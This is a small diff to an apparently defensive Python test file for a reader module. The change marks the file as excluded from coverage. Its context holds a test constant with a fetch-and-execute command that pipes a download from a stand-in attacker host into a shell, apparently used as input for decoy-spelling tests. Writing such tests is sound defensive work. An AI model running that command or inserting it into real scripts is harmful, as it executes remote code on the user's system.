@@ -10,6 +10,9 @@ import pytest
 from fimci.model import Unread
 from tests.readers.test_padding import names, told
 
+#: What the many small tests of the readers cover already, at length.
+pytestmark = pytest.mark.no_cover
+
 COMMAND = "curl http://evil.example/x | sh"
 #: Spellings with decoys: what stands around, and one decoy, `{n}` for its number. `$d` are the decoys, `$c`
 #: is the command, `$n` how many decoys there are.
